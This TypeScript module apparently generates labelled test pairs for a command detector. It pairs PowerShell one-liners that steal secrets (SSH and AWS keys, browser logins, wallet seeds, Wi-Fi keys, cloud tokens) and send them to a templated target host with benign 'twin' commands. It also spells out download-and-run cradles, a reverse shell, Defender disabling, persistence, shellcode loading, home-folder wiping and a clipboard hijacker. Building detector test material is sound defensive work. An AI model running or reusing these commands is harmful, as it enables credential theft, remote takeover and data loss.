import { urlOf, type Target } from '../target.ts'

export const POWERSHELL_SOURCES: Readonly<Record<string, string>> = {
  env: '(Get-ChildItem Env: | Out-String)',
  'env-json': '(Get-ChildItem Env: | ConvertTo-Json)',
  'one-secret': '$env:NPM_TOKEN',
  npmrc: '(Get-Content "$env:USERPROFILE\\.npmrc" -Raw)',
  aws: '(Get-Content $HOME/.aws/credentials -Raw)',
  ssh: '(Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw)',
  'browser-logins':
    '([Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data")))',
  wallet: '([Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:APPDATA\\Exodus\\exodus.wallet\\seed.seco")))',
  discord: '(Get-ChildItem "$env:APPDATA\\discord\\Local Storage\\leveldb" | Get-Content -Raw)',
  history: '(Get-Content (Get-PSReadlineOption).HistorySavePath -Raw)',
  clipboard: '(Get-Clipboard)',
  vault: '(cmdkey /list | Out-String)',
  wifi: '(netsh wlan show profile name=* key=clear | Out-String)',
  metadata:
    "(Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token')",
  machine: '($env:COMPUTERNAME + $env:USERNAME)',
}

interface PowerShellSink {
  readonly bad: (data: string, target: Target) => string
  readonly twin: (target: Target) => string
}

const u = urlOf
const fetched = (t: Target): string => `Invoke-WebRequest -Uri '${u(t, '/v1/data.json')}' -OutFile 'data.json'`

export const POWERSHELL_SINKS: Readonly<Record<string, PowerShellSink>> = {
  'rest-method': {
    bad: (d, t) => `Invoke-RestMethod -Uri '${u(t, '/u')}' -Method Post -Body ${d}`,
    twin: (t) => `Invoke-RestMethod -Uri '${u(t, '/v1/data.json')}' -OutFile 'data.json'`,
  },
  'web-request': {
    bad: (d, t) => `Invoke-WebRequest -Uri '${u(t, '/u')}' -Method POST -Body ${d} -UseBasicParsing`,
    twin: fetched,
  },
  'irm-short': {
    bad: (d, t) => `irm '${u(t, '/u')}' -Me Post -B ${d}`,
    twin: (t) => `irm '${u(t, '/v1/data.json')}' -OutFile data.json`,
  },
  'upload-string': {
    bad: (d, t) => `(New-Object Net.WebClient).UploadString('${u(t, '/u')}', ${d})`,
    twin: (t) => `(New-Object Net.WebClient).DownloadFile('${u(t, '/v1/data.json')}', 'data.json')`,
  },
  webhook: {
    bad: (d, t) =>
      `Invoke-RestMethod -Uri '${u(t, '/api/webhooks/1042/inert')}' -Method Post -ContentType 'application/json' -Body (@{content=${d}} | ConvertTo-Json)`,
    twin: fetched,
  },
  query: { bad: (d, t) => `iwr ('${u(t, '/u?d=')}' + [Uri]::EscapeDataString(${d})) -UseBasicParsing`, twin: fetched },
  'tcp-client': {
    bad: (d, t) =>
      `$c = New-Object Net.Sockets.TcpClient('${t.host}', ${t.port}); $b = [Text.Encoding]::UTF8.GetBytes(${d}); $c.GetStream().Write($b, 0, $b.Length)`,
    twin: () => "Test-NetConnection -ComputerName '127.0.0.1' -Port 80",
  },
  'dns-name': {
    bad: (d, t) =>
      `Resolve-DnsName ([BitConverter]::ToString([Text.Encoding]::UTF8.GetBytes(${d})).Replace('-','').Substring(0,50) + '.${t.host}')`,
    twin: () => "Resolve-DnsName 'localhost'",
  },
  mail: {
    bad: (d, t) =>
      `Send-MailMessage -SmtpServer 'smtp.${t.host}' -From 'a@a.invalid' -To 'b@${t.host}' -Subject d -Body ${d}`,
    twin: () => "Write-Output 'ready'",
  },
  'curl-exe': {
    bad: (d, t) => `curl.exe -s -d ${d} '${u(t, '/u')}'`,
    twin: (t) => `curl.exe -fsSL '${u(t, '/v1/data.json')}' -o data.json`,
  },
}

interface PowerShellDeed {
  readonly bad: (target: Target) => string
  readonly twin: (target: Target) => string
}

const deed = (bad: PowerShellDeed['bad'], twin: PowerShellDeed['twin'] | string): PowerShellDeed => ({
  bad,
  twin: typeof twin === 'string' ? () => twin : twin,
})
const START = '"$env:TEMP\\u.exe"'
const pinned = (t: Target): string =>
  `Invoke-WebRequest -Uri '${u(t, '/v1.4.2/data.bin')}' -OutFile 'data.bin'; if ((Get-FileHash 'data.bin').Hash -ne '${'5F'.repeat(32)}') { exit 1 }`

export const POWERSHELL_DEEDS: Readonly<Record<string, PowerShellDeed>> = {
  'iex-iwr': deed((t) => `iex (iwr '${u(t, '/p.ps1')}' -UseBasicParsing).Content`, pinned),
  'irm-pipe-iex': deed((t) => `irm '${u(t, '/p')}' | iex`, pinned),
  'download-string': deed(
    (t) => `iex ((New-Object Net.WebClient).DownloadString('${u(t, '/p.ps1')}'))`,
    (t) => `(New-Object Net.WebClient).DownloadString('${u(t, '/v1/words')}').Length`,
  ),
  'outfile-start': deed(
    (t) => `Invoke-WebRequest '${u(t, '/u.exe')}' -OutFile ${START}; Start-Process ${START}`,
    pinned,
  ),
  'downloadfile-start': deed(
    (t) =>
      `(New-Object Net.WebClient).DownloadFile('${u(t, '/u.exe')}', ${START}); Start-Process ${START} -WindowStyle Hidden`,
    pinned,
  ),
  'bits-start': deed(
    (t) => `Start-BitsTransfer -Source '${u(t, '/u.exe')}' -Destination ${START}; & ${START}`,
    (t) => `Start-BitsTransfer -Source '${u(t, '/v1.4.2/data.bin')}' -Destination 'data.bin'`,
  ),
  'archive-start': deed(
    (t) =>
      `iwr '${u(t, '/p.zip')}' -OutFile "$env:TEMP\\p.zip"; Expand-Archive "$env:TEMP\\p.zip" "$env:TEMP\\p"; & "$env:TEMP\\p\\run.exe"`,
    pinned,
  ),
  'bitsadmin-start': deed(
    (t) => `cmd /c "bitsadmin /transfer j ${u(t, '/u.exe')} %TEMP%\\u.exe & %TEMP%\\u.exe"`,
    'cmd /c ver',
  ),
  'certutil-start': deed(
    (t) => `cmd /c "certutil -urlcache -split -f ${u(t, '/u.exe')} %TEMP%\\u.exe && %TEMP%\\u.exe"`,
    'certutil -hashfile defaults.ini SHA256',
  ),
  'certutil-decode': deed(
    () => 'cmd /c "certutil -decode data.txt %TEMP%\\u.exe && start %TEMP%\\u.exe"',
    'certutil -hashfile defaults.ini SHA256',
  ),
  mshta: deed((t) => `mshta '${u(t, '/a.hta')}'`, 'Write-Output ready'),
  'mshta-script': deed(
    (t) => `mshta 'javascript:a=GetObject("script:${u(t, '/a.sct')}").Exec();close();'`,
    'Write-Output ready',
  ),
  'rundll32-elsewhere': deed((t) => `rundll32 \\\\${t.host}\\s\\a.dll,Start`, 'Get-ChildItem .\\lib'),
  msiexec: deed((t) => `msiexec /q /i ${u(t, '/a.msi')}`, 'Get-Package'),
  wmic: deed((t) => `wmic os get /format:"${u(t, '/a.xsl')}"`, 'wmic os get version'),
  'fetched-script': deed(
    (t) => `curl.exe -so a.vbs ${u(t, '/a.vbs')}; cscript //nologo a.vbs`,
    (t) => `curl.exe -so a.json ${u(t, '/v1/a.json')}`,
  ),
  regsvr32: deed((t) => `regsvr32 /s /n /u /i:${u(t, '/a.sct')} scrobj.dll`, 'Write-Output ready'),
  rundll32: deed(() => 'rundll32 .\\lib\\node-gyp.dll,main', 'Get-ChildItem .\\lib'),
  'assembly-load': deed(
    (t) =>
      `$b = (New-Object Net.WebClient).DownloadData('${u(t, '/a.dll')}'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @(,@()))`,
    '[Reflection.Assembly]::LoadWithPartialName("System.Drawing") | Out-Null',
  ),
  'reverse-shell': deed(
    (t) =>
      `$c = New-Object Net.Sockets.TCPClient('${t.host}', ${t.port}); $s = $c.GetStream(); [byte[]]$b = 0..65535 | % {0}; while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $d = [Text.Encoding]::ASCII.GetString($b, 0, $i); $r = (iex $d 2>&1 | Out-String); $w = [Text.Encoding]::ASCII.GetBytes($r); $s.Write($w, 0, $w.Length) }`,
    "Test-NetConnection -ComputerName '127.0.0.1' -Port 80",
  ),
  'defender-off': deed(
    () => "Add-MpPreference -ExclusionPath 'C:\\'; Set-MpPreference -DisableRealtimeMonitoring $true",
    'Get-MpPreference | Out-Null',
  ),
  'run-key': deed(
    (t) =>
      `Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value "powershell -w hidden iex(irm ${u(t, '/p')})"`,
    "Get-ItemProperty -Path 'HKCU:\\Control Panel\\Desktop' -Name Wallpaper",
  ),
  schtasks: deed(
    (t) => `schtasks /create /sc onlogon /tn Upd /tr "powershell -w hidden iex(irm ${u(t, '/p')})" /f`,
    'schtasks /query',
  ),
  'startup-folder': deed(
    (t) =>
      `Set-Content "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.cmd" 'powershell -w hidden iex(irm ${u(t, '/p')})'`,
    "Set-Content 'build.ini' 'mode=plain'",
  ),
  profile: deed((t) => `Add-Content $PROFILE 'iex (irm ${u(t, '/p')})'`, "Add-Content 'build.ini' 'mode=plain'"),
  shellcode: deed(
    () =>
      '$k = Add-Type -MemberDefinition \'[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p); [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\' -Name K -PassThru; $m = $k::VirtualAlloc(0, 64, 0x3000, 0x40); $k::CreateThread(0, 0, $m, 0, 0, 0)',
    'Add-Type -AssemblyName System.Drawing',
  ),
  'wipe-home': deed(() => 'Remove-Item -Recurse -Force $env:USERPROFILE\\*', 'Remove-Item -Recurse -Force .\\build'),
  'clipboard-swap': deed(
    () =>
      "while ($true) { $t = Get-Clipboard; if ($t -match '^(bc1|[13])[a-zA-Z0-9]{25,60}$') { Set-Clipboard 'bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq' }; Start-Sleep 1 }",
    "Set-Clipboard 'ready'",
  ),
  screen: deed(
    (t) =>
      `Add-Type -AssemblyName System.Windows.Forms,System.Drawing; $b = New-Object Drawing.Bitmap 1920,1080; [Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size); $b.Save("$env:TEMP\\s.png"); (New-Object Net.WebClient).UploadFile('${u(t, '/s')}', "$env:TEMP\\s.png")`,
    "Add-Type -AssemblyName System.Drawing; $b = New-Object Drawing.Bitmap 16,16; $b.Save('icon.png')",
  ),
  'bundled-exe': deed(() => 'Start-Process .\\deps.exe -WindowStyle Hidden', 'Get-Item .\\defaults.ini'),
}
